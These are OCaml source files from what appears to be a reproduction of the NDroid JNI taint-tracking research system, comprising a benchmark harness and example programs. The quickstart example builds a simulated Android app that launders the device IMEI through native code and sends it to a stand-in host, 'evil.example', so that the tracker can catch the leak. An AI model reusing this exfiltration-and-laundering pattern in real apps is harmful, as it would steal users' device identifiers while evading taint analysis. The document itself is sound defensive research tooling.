             ignore (Ndroid.attach device);
             ignore (Device.run device "Lcom/ndroid/demos/Case1p;" "main" [||])));
      Test.make ~name:"fig2.corpus.classify.4k"
        (Staged.stage (fun () -> ignore (Stats.summarize (Market.generate scaled))));
      Test.make ~name:"tableV.insn_taint.step"
        (Staged.stage (fun () -> Insn_taint.step e_engine e_cpu ~addr:0 insn));
      Test.make ~name:"fig10.java.intrinsic.call"
        (Staged.stage
           (let device = Device.create () in
            let vm = Device.vm device in
            let s = Vm.new_string vm "x" in
            fun () ->
              ignore
                (Ndroid_dalvik.Interp.invoke_by_name vm "Ljava/lang/String;"
                   "length" [| s |])));
      Test.make ~name:"tableVI.memcpy.model"
        (Staged.stage
           (let device = Device.create () in
            let machine = Device.machine device in
            Machine.set_host_fn_work machine 0;
            let addr = Machine.host_fn_addr machine "memcpy" in
            fun () ->
              ignore
                (Machine.call_native machine ~addr
                   ~args:[ 0x30001000; 0x30000000; 64 ] ())));
      Test.make ~name:"fig5.multilevel.observe"
        (Staged.stage
           (let ml =
              Ndroid_emulator.Multilevel.create
                ~chain:[ Ndroid_emulator.Multilevel.exact 0x40001000 ]
                ~in_native:Layout.in_app_lib
            in
            fun () ->
              ignore
                (Ndroid_emulator.Multilevel.observe ml ~from_:Layout.app_lib_base
                   ~to_:0x40002000))) ]
  in
  List.iter
    (fun test ->
      let instance = Toolkit.Instance.monotonic_clock in
      let cfg =
        Benchmark.cfg ~limit:500 ~quota:(Time.second 0.25) ~kde:(Some 500) ()
      in
      let raw = Benchmark.all cfg [ instance ] test in
      let ols =
        Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |]
      in
      let results = Analyze.all ols instance raw in
      Hashtbl.iter
        (fun name result ->
          match Analyze.OLS.estimates result with
          | Some [ est ] -> Printf.printf "  %-42s %12.1f ns/run\n%!" name est
          | Some _ | None -> Printf.printf "  %-42s (no estimate)\n%!" name)
        results)
    tests

(* ------------------------------------------------------------ DALVIK -- *)

module Interp = Ndroid_dalvik.Interp

(* Dalvik hot-path throughput: the resolve-once fast path (pre-linked code,
   memoized vtables/layouts, inline caches, pooled frames) against the seed
   interpreter kept verbatim as [Interp.invoke_reference].  Two workloads:
   a Java-heavy loop where resolution caches matter (invokes, virtual
   dispatch, field + static traffic) and a JNI-crossing loop that churns the
   pooled call-bridge marshaling.  Honest rows: taint-on (the NDroid
   configuration) and taint-off (vanilla). *)

let dk_cls = "Lcom/bench/DalvikHot;"
let dk_iterations = 20_000

let dk_classes () =
  let fa = { B.f_class = dk_cls; f_name = "a" } in
  let fb = { B.f_class = dk_cls; f_name = "b" } in
  let fs = { B.f_class = dk_cls; f_name = "s" } in
  (* a realistic class body: dex classes carry dozens of methods and fields,
     and the seed resolver scans those lists on every invoke / field access.
     The hot members sit at the end, where a linear scan pays full price. *)
  let filler_methods =
    List.init 24 (fun i ->
        J.method_ ~cls:dk_cls ~name:(Printf.sprintf "m%02d" i) ~shorty:"I"
          ~registers:2
          [ J.I (B.Const (0, Dvalue.Int (Int32.of_int i))); J.I (B.Return 0) ])
  in
  let filler_fields = List.init 10 (fun i -> Printf.sprintf "p%d" i) in
  let leaf =
    J.method_ ~cls:dk_cls ~name:"leaf" ~shorty:"II" ~registers:4
      [ J.I (B.Binop_lit (B.Add, 0, 3, 1l)); J.I (B.Return 0) ]
  in
  let vgetf =
    J.method_ ~cls:dk_cls ~name:"vgetf" ~shorty:"I" ~static:false ~registers:4
      [ J.I (B.Iget (0, 3, fa)); J.I (B.Return 0) ]
  in
  let work =
    J.method_ ~cls:dk_cls ~name:"work" ~shorty:"II" ~registers:10
      [ J.I (B.Const (0, Dvalue.Int 0l));
        J.I (B.New_instance (1, dk_cls));
        J.I (B.Iput (9, 1, fa));
        (* a tainted argument taints field a, so taint-on rows really pay
           for propagation through the whole loop *)
        J.I (B.Iput (0, 1, fb));
        J.I (B.Move (2, 9));
        J.L "loop";
        J.Ifz_l (B.Le, 2, "done");
        J.I (B.Invoke (B.Static, { B.m_class = dk_cls; m_name = "leaf" }, [ 0 ]));
        J.I (B.Move_result 0);
        J.I (B.Invoke (B.Virtual, { B.m_class = dk_cls; m_name = "vgetf" }, [ 1 ]));
        J.I (B.Move_result 3);
        J.I (B.Binop (B.Add, 0, 0, 3));
        J.I (B.Iget (4, 1, fb));
        J.I (B.Binop (B.Add, 4, 4, 3));
        J.I (B.Iput (4, 1, fb));
        J.I (B.Sget (5, fs));
        J.I (B.Binop_lit (B.Add, 5, 5, 3l));
        J.I (B.Sput (5, fs));
        J.I (B.Binop_lit (B.Sub, 2, 2, 1l));
        J.Goto_l "loop";
        J.L "done";
        J.I (B.Return 0) ]
  in
  [ J.class_ ~name:dk_cls
      ~fields:(filler_fields @ [ "a"; "b" ])
      ~static_fields:[ "s" ]
      (filler_methods @ [ leaf; vgetf; work ]) ]

(* (bytecodes per run, median seconds, bytecodes/sec) *)
let dk_measure ?obs invoke ~track ~taint =
  let vm = Vm.create () in
  List.iter (Vm.define_class vm) (dk_classes ());
  (match obs with Some ring -> vm.Vm.obs <- ring | None -> ());
  vm.Vm.track_taint <- track;
  let m = Vm.find_method vm dk_cls "work" in
  let arg = (Dvalue.Int (Int32.of_int dk_iterations), taint) in
  let b0 = vm.Vm.counters.Vm.bytecodes in
  ignore (invoke vm m [| arg |]);
  let per_run = vm.Vm.counters.Vm.bytecodes - b0 in
  let dt = time_median (fun () -> ignore (invoke vm m [| arg |])) in
  (per_run, dt, float_of_int per_run /. dt)

let dk_jni_cls = "Lcom/bench/DalvikJni;"
let dk_jni_iterations = 6_000

let dk_jni_app : H.app =
  { H.app_name = "dalvik-jni-bench";
    app_case = "bench";
    description = "JNI crossing churn through the pooled call bridge";
    classes =
      [ J.class_ ~name:dk_jni_cls
          [ J.native_method ~cls:dk_jni_cls ~name:"nadd" ~shorty:"II" "nadd";
            J.method_ ~cls:dk_jni_cls ~name:"cross" ~shorty:"II" ~registers:6
              [ J.L "loop";
                J.Ifz_l (B.Le, 5, "done");
                J.I
                  (B.Invoke
                     (B.Static, { B.m_class = dk_jni_cls; m_name = "nadd" },
                      [ 5 ]));
                J.I (B.Move_result 0);
                J.I (B.Binop_lit (B.Sub, 5, 5, 1l));
                J.Goto_l "loop";
                J.L "done";
                J.I (B.Return 5) ] ] ];
    build_libs =
      (fun extern ->
        let open Asm in
        (* static native: r0 = JNIEnv*, r1 = class, r2 = first argument *)
        let items =
          [ Label "nadd";
            I (Insn.mov 0 (Insn.Reg 2));
            I (Insn.add 0 0 (Insn.Imm 1));
            I Insn.bx_lr ]
        in
        [ ("dalvikjni", assemble ~extern ~base:Layout.app_lib_base items) ]);
    entry = (dk_jni_cls, "cross");
    expected_sink = "" }

(* (crossings per run, bytecodes per run, median seconds, device) *)
let dk_measure_jni ?(summaries = false) invoke =
  let device = H.boot dk_jni_app in
  if summaries then Device.set_use_summaries device true;
  let vm = Device.vm device in
  let m = Vm.find_method vm dk_jni_cls "cross" in
  let arg = (Dvalue.Int (Int32.of_int dk_jni_iterations), Taint.clear) in
  let c0 = vm.Vm.counters.Vm.native_calls in
  let b0 = vm.Vm.counters.Vm.bytecodes in
  ignore (invoke vm m [| arg |]);
  let crossings = vm.Vm.counters.Vm.native_calls - c0 in
  let per_run = vm.Vm.counters.Vm.bytecodes - b0 in
  let dt = time_median (fun () -> ignore (invoke vm m [| arg |])) in
  (crossings, per_run, dt, device)

(* A loopy native body: the JNI bridge cost is amortized away, so what is
   measured is the native execution loop itself — per-instruction traced
   versus superblock-translated with fused taint transfers.  The body has
   control flow, so the summary path must reject it (no silent wrong
   answers from summaries on loops). *)

let dk_sb_cls = "Lcom/bench/SbLoop;"
let dk_sb_iterations = 1_500

let dk_sb_app : H.app =
  { H.app_name = "superblock-bench";
    app_case = "bench";
    description = "loopy native body under superblock translation";
    classes =
      [ J.class_ ~name:dk_sb_cls
          [ J.native_method ~cls:dk_sb_cls ~name:"nloop" ~shorty:"II" "nloop";
            J.method_ ~cls:dk_sb_cls ~name:"cross" ~shorty:"II" ~registers:6
              [ J.L "loop";
                J.Ifz_l (B.Le, 5, "done");
                J.I
                  (B.Invoke
                     (B.Static, { B.m_class = dk_sb_cls; m_name = "nloop" },
                      [ 5 ]));
                J.I (B.Move_result 0);
                J.I (B.Binop_lit (B.Sub, 5, 5, 1l));
                J.Goto_l "loop";
                J.L "done";
                J.I (B.Return 5) ] ] ];
    build_libs =
      (fun extern ->
        let open Asm in
        let items =
          [ Label "nloop";
            I (Insn.mov 0 (Insn.Reg 2));
            I (Insn.mov 2 (Insn.Imm 32));
            Label "nl_body";
            I (Insn.add 0 0 (Insn.Imm 3));
            I (Insn.eor 3 0 (Insn.Reg 2));
            I (Insn.add 0 0 (Insn.Reg 3));
            I (Insn.subs 2 2 (Insn.Imm 1));
            Br (Insn.NE, "nl_body");
            I Insn.bx_lr ]
        in
        [ ("sbloop", assemble ~extern ~base:Layout.app_lib_base items) ]);
    entry = (dk_sb_cls, "cross");
    expected_sink = "" }

(* (median seconds, final NDroid stats) *)
let dk_measure_sb ~superblocks =
  let device = H.boot dk_sb_app in
  let nd = Ndroid.attach ~use_superblocks:superblocks device in
  (* isolate the native loop from the simulated bridge charge (as A3) *)
  Machine.set_host_fn_work (Device.machine device) 0;
  let vm = Device.vm device in
  let m = Vm.find_method vm dk_sb_cls "cross" in
  let arg = (Dvalue.Int (Int32.of_int dk_sb_iterations), Taint.clear) in
  let dt = time_median (fun () -> ignore (Interp.invoke vm m [| arg |])) in
  (dt, Ndroid.stats nd)

let dalvik () =
  section "DALVIK: resolve-once fast path vs seed interpreter";
  let row name (bytecodes, dt, rate) =
    Printf.printf "%-28s %12d %10.4f %14.0f\n%!" name bytecodes dt rate
  in
  Printf.printf "%-28s %12s %10s %14s\n" "configuration" "bytecodes" "seconds"
    "bytecodes/sec";
  let ref_on = dk_measure Interp.invoke_reference ~track:true ~taint:Taint.imei in
  let ref_off = dk_measure Interp.invoke_reference ~track:false ~taint:Taint.clear in
  let fast_on = dk_measure Interp.invoke ~track:true ~taint:Taint.imei in
  let fast_off = dk_measure Interp.invoke ~track:false ~taint:Taint.clear in
  row "reference, taint on" ref_on;
  row "reference, taint off" ref_off;
  row "fast, taint on" fast_on;
  row "fast, taint off" fast_off;
  let rate (_, _, r) = r in
  let speedup_on = rate fast_on /. rate ref_on in
  let speedup_off = rate fast_off /. rate ref_off in
  Printf.printf "java-heavy speedup: %.2fx taint-on, %.2fx taint-off\n%!"
    speedup_on speedup_off;
  (* observability overhead: a live events hub attached to the VM but with
     span tracing off — the production shape for `ndroid analyze` without
     --trace — must stay within 10% of the plain taint-on fast path *)
  let obs_ring = Ndroid_obs.Ring.create ~capacity:4096 () in
  let obs_on = dk_measure ~obs:obs_ring Interp.invoke ~track:true ~taint:Taint.imei in
  row "fast, taint on, obs ring" obs_on;
  let obs_ratio = rate obs_on /. rate fast_on in
  Printf.printf "obs-ring throughput ratio (events compiled in, tracing off): %.3f\n%!"
    obs_ratio;
  let jref = dk_measure_jni Interp.invoke_reference in
  let jfast = dk_measure_jni Interp.invoke in
  let jsum = dk_measure_jni ~summaries:true Interp.invoke in
  let jni_row name (crossings, bytecodes, dt, _) =
    Printf.printf "%-28s %8d crossings %8d bytecodes %8.4fs %12.0f crossings/sec\n%!"
      name crossings bytecodes dt
      (float_of_int crossings /. dt)
  in
  jni_row "jni reference" jref;
  jni_row "jni fast (emulated body)" jfast;
  jni_row "jni summary path" jsum;
  let time (_, _, dt, _) = dt in
  let crossings_of (c, _, _, _) = c in
  let dev_of (_, _, _, d) = d in
  let seed_jni_speedup = time jref /. time jfast in
  (* the split: per crossing, the summary path still pays marshaling (plus
     the summary application itself), so its per-crossing time IS the
     marshal cost; what it no longer pays — the emulated native body and
     its bridge — is the difference against the full-emulation fast path *)
  let crossings_f = float_of_int (crossings_of jfast) in
  let us_per_crossing dt = dt /. crossings_f *. 1e6 in
  let fast_us = us_per_crossing (time jfast) in
  let marshal_us = us_per_crossing (time jsum) in
  let native_body_us = fast_us -. marshal_us in
  let jni_speedup = time jfast /. time jsum in
  let sum_applied = Device.summaries_applied (dev_of jsum) in
  let sum_rejected = Device.summaries_rejected (dev_of jsum) in
  Printf.printf
    "per crossing: %.3fus total emulated = %.3fus marshal + %.3fus native \
     body\n"
    fast_us marshal_us native_body_us;
  Printf.printf "summaries applied: %d, rejected: %d\n" sum_applied sum_rejected;
  Printf.printf "jni-crossing speedup (summary vs emulated body): %.2fx\n%!"
    jni_speedup;
  (* superblock translation on a loopy native body, against the same
     configuration tracing per instruction *)
  let sb_off_dt, _ = dk_measure_sb ~superblocks:false in
  let sb_on_dt, sb_stats = dk_measure_sb ~superblocks:true in
  let sb_speedup = sb_off_dt /. sb_on_dt in
  Printf.printf
    "superblock loopy body: per-insn %.4fs vs superblock %.4fs (%.2fx; %d \
     compiled, %d hits, %d invalidated)\n%!"
    sb_off_dt sb_on_dt sb_speedup sb_stats.Ndroid.sb_compiles
    sb_stats.Ndroid.sb_hits sb_stats.Ndroid.sb_invalidations;
  let row_json (bytecodes, dt, rate) =
    Rj.Obj
      [ ("bytecodes", Rj.Int bytecodes); ("seconds", Rj.Float dt);
        ("bytecodes_per_sec", Rj.Float rate) ]
  in
  let jni_json (crossings, bytecodes, dt, _) =
    Rj.Obj
      [ ("jni_crossings", Rj.Int crossings); ("bytecodes", Rj.Int bytecodes);
        ("seconds", Rj.Float dt);
        ("crossings_per_sec", Rj.Float (float_of_int crossings /. dt)) ]
  in
  let doc =
    Rj.Obj
      [ ("experiment", Rj.Str "dalvik");
        ("java_heavy_iterations", Rj.Int dk_iterations);
        ("jni_iterations", Rj.Int dk_jni_iterations);
        ("java_heavy",
         Rj.Obj
           [ ("reference",
              Rj.Obj [ ("taint_on", row_json ref_on); ("taint_off", row_json ref_off) ]);
             ("fast",
              Rj.Obj [ ("taint_on", row_json fast_on); ("taint_off", row_json fast_off) ]);
             ("speedup_taint_on", Rj.Float speedup_on);
             ("speedup_taint_off", Rj.Float speedup_off) ]);
        ("jni_crossing",
         Rj.Obj
           [ ("reference", jni_json jref); ("fast", jni_json jfast);
             ("summary_path", jni_json jsum);
             ("per_crossing_us",
              Rj.Obj
                [ ("total_emulated", Rj.Float fast_us);
                  ("marshal", Rj.Float marshal_us);
                  ("native_body", Rj.Float native_body_us) ]);
             ("counters",
              Rj.Obj
                [ ("summaries_applied", Rj.Int sum_applied);
                  ("summaries_rejected", Rj.Int sum_rejected) ]);
             ("seed_speedup", Rj.Float seed_jni_speedup);
             ("speedup", Rj.Float jni_speedup) ]);
        ("superblock",
         Rj.Obj
           [ ("iterations", Rj.Int dk_sb_iterations);
             ("per_insn_seconds", Rj.Float sb_off_dt);
             ("superblock_seconds", Rj.Float sb_on_dt);
             ("speedup", Rj.Float sb_speedup);
             ("counters",
              Rj.Obj
                [ ("sb_compiles", Rj.Int sb_stats.Ndroid.sb_compiles);
                  ("sb_hits", Rj.Int sb_stats.Ndroid.sb_hits);
                  ("sb_invalidations", Rj.Int sb_stats.Ndroid.sb_invalidations)
                ]) ]);
        ("obs_overhead",
         Rj.Obj
           [ ("baseline_taint_on", row_json fast_on);
             ("obs_ring_taint_on", row_json obs_on);
             ("throughput_ratio", Rj.Float obs_ratio) ]) ]
  in
  let oc = open_out "BENCH_dalvik.json" in
  output_string oc (Rj.to_string_hum doc);
  output_string oc "\n";
  close_out oc;
  Printf.printf "wrote BENCH_dalvik.json\n";
  let fail msg =
    Printf.eprintf "FAIL: %s\n" msg;
    exit 1
  in
  (* acceptance bar: the resolve-once fast path must clear 3x over the seed
     interpreter on the Java-heavy workload, tracking on *)
  if speedup_on < 3.0 then
    fail (Printf.sprintf "java-heavy taint-on speedup %.2fx < 3.0x" speedup_on);
  let identical (b1, _, _) (b2, _, _) = b1 = b2 in
  if not (identical ref_on fast_on && identical ref_off fast_off) then
    fail "fast path executed a different bytecode count than the reference";
  (* the summary path must answer every crossing (this body is exact), run
     the same bytecode stream, and clear 3x over full emulation *)
  let jni_identical (c1, b1, _, _) (c2, b2, _, _) = c1 = c2 && b1 = b2 in
  if not (jni_identical jfast jsum && jni_identical jref jfast) then
    fail "summary path changed the crossing or bytecode count";
  if sum_applied = 0 || sum_rejected > 0 then
    fail
      (Printf.sprintf "summary path: %d applied, %d rejected on an exact body"
         sum_applied sum_rejected);
  if jni_speedup < 3.0 then
    fail
      (Printf.sprintf "jni-crossing summary speedup %.2fx < 3.0x" jni_speedup);
  if sb_stats.Ndroid.sb_compiles = 0 || sb_stats.Ndroid.sb_hits = 0 then
    fail "superblock path compiled or reused no blocks on the loopy body";
  (* events compiled into the loop must be ~free while tracing is off *)
  if not (identical fast_on obs_on) then
    fail "attaching the obs ring changed the executed bytecode count";
  if obs_ratio < 0.90 then
    fail
      (Printf.sprintf
         "obs-ring throughput ratio %.3f < 0.90 (events-off overhead > 10%%)"
         obs_ratio)

(* ------------------------------------------------------------- driver -- *)

let all_experiments =
  [ ("e1", e1); ("e2", e2); ("e3", e3); ("e4", e4); ("e5", e5); ("e6", e6);
    ("e7", e7); ("e8", e8); ("e9", e9); ("e10", e10); ("e11", e11);
    ("e12", e12); ("e13", e13); ("e14", e14); ("a1", a1); ("a2", a2);
    ("a3", a3); ("perf", perf); ("static", static); ("pipeline", pipeline);
    ("micro", micro); ("dalvik", dalvik) ]

let () =
  Printf.printf
    "NDroid reproduction experiment harness (OCaml %s)\n\
     paper: On Tracking Information Flows through JNI in Android \
     Applications, DSN 2014\n"
    Sys.ocaml_version;
  let args = List.tl (Array.to_list Sys.argv) in
  let rec split_jobs acc = function
    | [] -> List.rev acc
    | "--jobs" :: n :: rest | "-j" :: n :: rest ->
      jobs_flag := int_of_string n;
      split_jobs acc rest
    | arg :: rest when String.length arg > 7 && String.sub arg 0 7 = "--jobs=" ->
      jobs_flag :=
        int_of_string (String.sub arg 7 (String.length arg - 7));
      split_jobs acc rest
    | arg :: rest -> split_jobs (arg :: acc) rest
  in
  let args = split_jobs [] args in
  let selected =
    match args with [] -> List.map fst all_experiments | names -> names
  in
  List.iter
    (fun name ->
      match List.assoc_opt name all_experiments with
      | Some f -> f ()
      | None ->
        Printf.eprintf "unknown experiment %s (available: %s)\n" name
          (String.concat ", " (List.map fst all_experiments));
        exit 1)
    selected
