(* GC resilience: why NDroid keys native-side object taint by indirect
   reference (paper, Secs. II-A and V-B).

   A tainted payload crosses into native memory; the Java heap is then
   compacted twice — every direct object pointer changes — and a second
   native call rebuilds a Java string from that memory.  The taint is
   still there, because nothing NDroid stored depends on object addresses.

   Run with:  dune exec examples/gc_resilience.exe *)

module Device = Ndroid_runtime.Device
module Vm = Ndroid_dalvik.Vm
module Heap = Ndroid_dalvik.Heap
module Ndroid = Ndroid_core.Ndroid
module Taint = Ndroid_taint.Taint
module H = Ndroid_apps.Harness
module Cases = Ndroid_apps.Cases

let () =
  let device = H.boot Cases.case1' in
  ignore (Ndroid.attach device);
  let vm = Device.vm device in

  let payload, t =
    Vm.new_string vm ~taint:(Taint.union Taint.contacts Taint.sms) "13 Vincent"
  in
  let obj_id = match payload with Ndroid_dalvik.Dvalue.Obj id -> id | _ -> assert false in
  let addr_before = (Heap.get vm.Vm.heap obj_id).Heap.addr in
  Printf.printf "payload object at 0x%x, taint %s\n" addr_before (Taint.to_string t);

  (* cross into native memory *)
  ignore (Device.run device "Lcom/ndroid/demos/Case1p;" "store" [| (payload, t) |]);

  (* move the world: each compaction evacuates to the other semispace *)
  Device.gc device;
  let addr_mid = (Heap.get vm.Vm.heap obj_id).Heap.addr in
  Device.gc device;
  let addr_after = (Heap.get vm.Vm.heap obj_id).Heap.addr in
  Printf.printf "compaction 1 moved it to 0x%x, compaction 2 to 0x%x (moved: %b)\n"
    addr_mid addr_after (addr_mid <> addr_before);

  (* rebuild from native memory: the taint must have survived *)
  let v, rt = Device.run device "Lcom/ndroid/demos/Case1p;" "fetch" [||] in
  Printf.printf "fetched %S with taint %s — %s\n"
    (Vm.string_of_value vm v) (Taint.to_string rt)
    (if Taint.equal rt t then "taint SURVIVED the moving GC"
     else "taint was LOST (bug!)")
