(* Quickstart: build a tiny app with a native method, attach NDroid, catch
   the leak TaintDroid would miss.

   The app does, in Dalvik bytecode and ARM assembly:

     String imei = TelephonyManager.getDeviceId();   // tainted 0x400
     stash(imei);                 // native: chars -> global buffer
     String s = unstash();        // native: NewStringUTF(buffer) — fresh,
                                  //         untainted object for TaintDroid
     Socket.send("evil.example", s);

   Run with:  dune exec examples/quickstart.exe *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Ndroid = Ndroid_core.Ndroid
module Flow_log = Ndroid_core.Flow_log
module A = Ndroid_android
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn

let cls = "Lcom/example/Quickstart;"

(* ---- the app's Java side ---- *)

let classes =
  [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
      [ J.native_method ~cls ~name:"stash" ~shorty:"VL" "stash";
        J.native_method ~cls ~name:"unstash" ~shorty:"L" "unstash";
        J.method_ ~cls ~name:"main" ~shorty:"V"
          [ J.I
              (B.Invoke
                 ( B.Static,
                   { B.m_class = "Landroid/telephony/TelephonyManager;";
                     m_name = "getDeviceId" },
                   [] ));
            J.I (B.Move_result 0);
            J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "stash" }, [ 0 ]));
            J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "unstash" }, []));
            J.I (B.Move_result 1);
            J.I (B.Const_string (2, "evil.example"));
            J.I
              (B.Invoke
                 (B.Static, { B.m_class = "Ljava/net/Socket;"; m_name = "send" },
                  [ 2; 1 ]));
            J.I B.Return_void ] ] ]

(* ---- the app's native side, in real ARM machine code ---- *)

let native_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    ([ Asm.Label "stash";
       Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
       (* chars = GetStringUTFChars(env, jstr, NULL) *)
       Asm.I (Insn.mov 1 (Insn.Reg 2));
       Asm.I (Insn.mov 2 (Insn.Imm 0));
       Asm.Call "GetStringUTFChars";
       (* strcpy(buffer, chars) *)
       Asm.I (Insn.mov 1 (Insn.Reg 0));
       Asm.La (0, "buffer");
       Asm.Call "strcpy";
       Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
       Asm.Label "unstash";
       Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
       (* NewStringUTF(env, buffer) *)
       Asm.La (1, "buffer");
       Asm.Call "NewStringUTF";
       Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
       Asm.Align4;
       Asm.Label "buffer" ]
    @ List.init 16 (fun _ -> Asm.Word 0))

let () =
  (* 1. boot a device and install the app *)
  let device = Device.create () in
  Device.install_classes device classes;
  let extern name =
    match Machine.host_fn_addr (Device.machine device) name with
    | a -> Some a
    | exception Not_found -> None
  in
  Device.provide_library device "quickstart" (native_lib extern);
  Device.load_library device "quickstart";

  (* 2. attach NDroid *)
  let ndroid = Ndroid.attach device in

  (* 3. run the app *)
  ignore (Device.run device cls "main" [||]);

  (* 4. what happened? *)
  print_endline "--- leaks caught ---";
  List.iter
    (fun l -> Format.printf "  %a@." A.Sink_monitor.pp_leak l)
    (Ndroid.leaks ndroid);
  print_endline "--- NDroid flow log ---";
  List.iter (fun l -> Printf.printf "  %s\n" l)
    (Flow_log.entries (Ndroid.log ndroid));
  Format.printf "--- stats ---@.  %a@." Ndroid.pp_stats (Ndroid.stats ndroid)
