(* APK scan: the Sec. III pipeline at the artifact level.

   A slice of the market is materialized into real binary artifacts —
   classes.dex images whose load calls are genuine invoke-static
   instructions, embedded payload dex blobs, lib/<abi>/*.so images — and
   classified by parsing those bytes, the way the paper's scanner processed
   downloaded APKs.

   Run with:  dune exec examples/apk_scan.exe [-- N]   (default 2000 apps) *)

module Market = Ndroid_corpus.Market
module Apk = Ndroid_corpus.Apk
module Classifier = Ndroid_corpus.Classifier

let () =
  let n =
    match Sys.argv with [| _; n |] -> int_of_string n | _ -> 2000
  in
  let params = Market.scaled n in
  Printf.printf "materializing and scanning %d APKs...\n%!" params.Market.total;
  let counts = Hashtbl.create 8 in
  let bytes_total = ref 0 in
  let mismatches = ref 0 in
  Seq.iter
    (fun app ->
      let apk = Apk.of_app_model app in
      List.iter (fun (_, data) -> bytes_total := !bytes_total + String.length data)
        apk.Apk.entries;
      let verdict = Apk.classify apk in
      if verdict <> Classifier.classify app then incr mismatches;
      let key = Classifier.classification_name verdict in
      Hashtbl.replace counts key
        (1 + Option.value ~default:0 (Hashtbl.find_opt counts key)))
    (Market.generate params);
  Printf.printf "scanned %.1f MB of synthesized artifacts\n"
    (float_of_int !bytes_total /. 1_048_576.0);
  Hashtbl.iter (fun k v -> Printf.printf "  %-20s %d\n" k v) counts;
  Printf.printf "binary vs symbolic classification mismatches: %d\n" !mismatches
