examples/apk_scan.ml: Hashtbl List Ndroid_corpus Option Printf Seq String Sys
