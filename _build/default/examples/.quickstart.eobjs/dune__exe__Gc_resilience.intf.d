examples/gc_resilience.mli:
