examples/leak_hunt.ml: Format List Ndroid_android Ndroid_apps Printf
