examples/firewall.mli:
