examples/apk_scan.mli:
