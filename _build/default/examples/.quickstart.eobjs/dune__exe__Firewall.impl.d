examples/firewall.ml: List Ndroid_android Ndroid_apps Ndroid_core Ndroid_dalvik Ndroid_runtime Printf String
