examples/market_study.mli:
