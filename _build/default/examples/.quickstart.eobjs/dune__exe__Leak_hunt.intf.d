examples/leak_hunt.mli:
