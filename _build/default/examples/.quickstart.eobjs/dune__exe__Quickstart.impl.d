examples/quickstart.ml: Format List Ndroid_android Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_emulator Ndroid_runtime Printf
