examples/quickstart.mli:
