examples/market_study.ml: Format Ndroid_corpus Printf Seq Sys
