(* Market study: the Sec. III pipeline at a chosen scale.

   Run with:  dune exec examples/market_study.exe [-- N]
   (N = corpus size; defaults to the paper's 227,911) *)

module Market = Ndroid_corpus.Market
module Stats = Ndroid_corpus.Stats
module Classifier = Ndroid_corpus.Classifier
module App_model = Ndroid_corpus.App_model

let () =
  let params =
    match Sys.argv with
    | [| _; n |] -> Market.scaled (int_of_string n)
    | _ -> Market.default_params
  in
  Printf.printf "classifying %d apps (seed %d)...\n\n" params.Market.total
    params.Market.seed;
  let s = Stats.summarize (Market.generate params) in
  Format.printf "%a@." Stats.pp_summary s;
  Format.printf "%a@." Stats.pp_fig2 s;
  (* show a few concrete classifications, the way a triage report would *)
  print_endline "sample classifications:";
  Seq.iter
    (fun app ->
      if app.App_model.app_id mod (max 1 (params.Market.total / 8)) = 0 then
        Printf.printf "  %-28s %-18s %s\n" app.App_model.package
          (Classifier.classification_name (Classifier.classify app))
          (App_model.category_name app.App_model.category))
    (Market.generate params)
