(* Leak hunt: vet a batch of apps the way Sec. VI does — run each under
   TaintDroid and under NDroid, and report the flows only NDroid sees.

   Run with:  dune exec examples/leak_hunt.exe *)

module H = Ndroid_apps.Harness
module A = Ndroid_android

let apps = Ndroid_apps.Cases.all @ Ndroid_apps.Case_studies.all

let () =
  Printf.printf "vetting %d apps...\n\n" (List.length apps);
  let escaped = ref 0 in
  List.iter
    (fun app ->
      let td = H.run H.Taintdroid_only app in
      let nd = H.run H.Ndroid_full app in
      Printf.printf "%-16s [%s] %s\n" app.H.app_name app.H.app_case
        app.H.description;
      (match (td.H.detected, nd.H.detected) with
       | true, _ -> Printf.printf "  TaintDroid already catches this flow\n"
       | false, true ->
         incr escaped;
         Printf.printf "  !! ESCAPES TaintDroid — NDroid reports:\n";
         List.iter
           (fun l -> Format.printf "     %a@." A.Sink_monitor.pp_leak l)
           nd.H.leaks
       | false, false -> Printf.printf "  no tainted flow reached a sink\n");
      (* the data really left the device either way *)
      List.iter
        (fun t -> Printf.printf "     (traffic to %s)\n" t.A.Network.dest)
        nd.H.transmissions;
      List.iter
        (fun w -> Printf.printf "     (file write to %s)\n" w.A.Filesystem.w_path)
        nd.H.file_writes;
      print_newline ())
    apps;
  Printf.printf "%d of %d apps leak only through JNI-aware tracking\n" !escaped
    (List.length apps)
