(* Firewall: the Block policy in action (the "protection mechanism" the
   paper's Sec. VII leaves as future work, in the spirit of AppFence from
   its related work).

   Every bundled malicious app is run twice under NDroid: once observing,
   once enforcing.  Enforcement suppresses Java-context sinks outright and
   scrubs the payload at native-context sinks, so the effect proceeds over
   harmless bytes.

   Run with:  dune exec examples/firewall.exe *)

module Device = Ndroid_runtime.Device
module Ndroid = Ndroid_core.Ndroid
module A = Ndroid_android
module H = Ndroid_apps.Harness

let run_mode ~block app =
  let device = H.boot app in
  ignore (Ndroid.attach device);
  if block then
    A.Sink_monitor.set_policy (Device.monitor device) A.Sink_monitor.Block;
  (try ignore (Device.run device (fst app.H.entry) (snd app.H.entry) [||])
   with Ndroid_dalvik.Vm.Java_throw _ -> ());
  device

let leaked_payloads device =
  List.map (fun t -> t.A.Network.payload)
    (A.Network.transmissions (Device.net device))
  @ List.map (fun w -> w.A.Filesystem.w_data) (A.Filesystem.writes (Device.fs device))

let contains_sensitive payloads =
  (* anything from the device profile counts *)
  let markers = [ "357242043237517"; "Vincent"; "cx@gg.com"; "4804001849" ] in
  List.exists
    (fun p ->
      List.exists
        (fun m ->
          let nl = String.length m and hl = String.length p in
          let rec loop i =
            if i + nl > hl then false
            else if String.sub p i nl = m then true
            else loop (i + 1)
          in
          loop 0)
        markers)
    payloads

let () =
  let apps = Ndroid_apps.Cases.all @ Ndroid_apps.Case_studies.all in
  Printf.printf "%-16s %-28s %s\n" "app" "observing" "enforcing";
  List.iter
